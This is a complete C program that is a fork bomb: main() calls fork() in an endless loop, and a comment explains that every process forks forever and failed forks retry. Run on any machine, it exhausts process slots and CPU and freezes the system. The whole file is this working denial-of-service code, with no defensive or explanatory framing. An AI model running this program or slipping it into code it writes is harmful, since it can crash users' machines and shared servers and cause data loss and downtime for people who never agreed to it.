#include <unistd.h>

/* Every process forks forever; forks that fail just retry, so everything spins. */
int main(void) {
    for (;;)
        fork();
}
